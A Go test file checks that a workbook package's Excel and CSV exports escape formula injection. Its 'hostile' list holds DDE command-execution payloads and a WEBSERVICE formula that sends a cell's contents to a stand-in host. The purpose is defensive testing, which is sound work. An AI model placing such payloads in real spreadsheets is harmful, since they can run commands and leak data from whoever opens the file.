package workbook_test

import (
	"bytes"
	"encoding/csv"
	"iter"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"qiaomen"
	"qiaomen/workbook"
)

func rowsOf(list ...*workbook.ListRow) iter.Seq2[*workbook.ListRow, error] {
	return func(yield func(*workbook.ListRow, error) bool) {
		for _, r := range list {
			if !yield(r, nil) {
				return
			}
		}
	}
}

// hostile are texts that some spreadsheet computes (asvs 1.2.10).
var hostile = []string{
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+2", "＠SUM(1)", "'=1+1", `=WEBSERVICE("http://example.invalid/"&A1)`,
	`=HYPERLINK("http://example.invalid","示例")`, "=DDE(\"cmd\";\"/C calc\")", "+cmd|' /C notepad'!'A1'", "=1\"\",=2", "-cmd|x!A1",
}

// A list taken away has a row for each record, says what its fields say in the
// unit that the title names, and no text of it is a formula.
func TestList(t *testing.T) {
	s := winter(t)
	k := s.Kind("signed_project")
	values := make([]qiaomen.Value, len(k.Fields))
	at := map[string]int{}
	for i, f := range k.Fields {
		at[f.ID] = i
	}
	amount, err := qiaomen.ParseDecimal("1.50")
	if err != nil {
		t.Fatal(err)
	}
	day, err := qiaomen.ParseDate("2024-01-05")
	if err != nil {
		t.Fatal(err)
	}
	amount = k.Fields[at["amount_yi"]].Scale.Held(amount)
	values[at["amount_yi"]] = qiaomen.Value{Given: true, Number: amount}
	values[at["signed_on"]] = qiaomen.Value{Given: true, Date: day}
	var rows []*workbook.ListRow
	for _, text := range hostile {
		rows = append(rows, &workbook.ListRow{ID: "r-1", Name: text, Unit: "示例区", State: "已认定", Reported: qiaomen.Moment{Day: day, Nano: 3600e9}, Values: values})
	}
	l := &workbook.List{Scheme: s, Kind: k, Title: "签约项目", Mark: "示例于2024年4月8日导出"}

	var one, two bytes.Buffer
	if err := l.Workbook(&one, rowsOf(rows...)); err != nil {
		t.Fatal(err)
	}
	if err := l.Workbook(&two, rowsOf(rows...)); err != nil || !bytes.Equal(one.Bytes(), two.Bytes()) {
		t.Errorf("the same rows gave other bytes: %v", err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(one.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetName(0)
	got, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil || len(got) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(got), err)
	}
	column := map[string]int{}
	for i, title := range got[0] {
		column[title] = i
	}
	for i, text := range hostile {
		name, _ := excelize.CoordinatesToCellName(column["名称"]+1, i+2)
		kind, err := f.GetCellType(sheet, name)
		formula, _ := f.GetCellFormula(sheet, name)
		if err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString || formula != "" || got[i+1][column["名称"]][0] != '\'' {
			t.Errorf("%q is %v %q %q", text, kind, formula, got[i+1][column["名称"]])
		}
	}
	if got[1][column["投资额（亿元）"]] != "1.5" && got[1][column["签约金额（亿元）"]] != "1.5" {
		t.Errorf("the amount: %v of %v", got[1], got[0])
	}
	foot, err := f.GetHeaderFooter(sheet)
	props, _ := f.GetDocProps()
	if err != nil || !strings.Contains(foot.OddFooter, "示例于2024年4月8日导出") || props.Description != l.Mark {
		t.Errorf("the mark: %+v %+v", foot, props)
	}

	one.Reset()
	if err := l.CSV(&one, rowsOf(rows...)); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(one.Bytes(), []byte("\xef\xbb\xbf")) || !bytes.Contains(one.Bytes(), []byte("\r\n")) {
		t.Error("no mark, or no CRLF")
	}
	lines, err := csv.NewReader(bytes.NewReader(one.Bytes()[3:])).ReadAll()
	if err != nil || len(lines) != len(hostile)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	for i, line := range lines[1:] {
		if line[column["名称"]] != "'"+strings.ReplaceAll(hostile[i], "\r", "") {
			t.Errorf("%q came as %q", hostile[i], line[column["名称"]])
		}
		if !strings.Contains(strings.Join(line, "|"), "|1.5|") && !strings.Contains(strings.Join(line, "|"), "|1.50|") || !strings.Contains(strings.Join(line, "|"), "2024-01-05 01:00:00") {
			t.Errorf("%v", line)
		}
	}
}
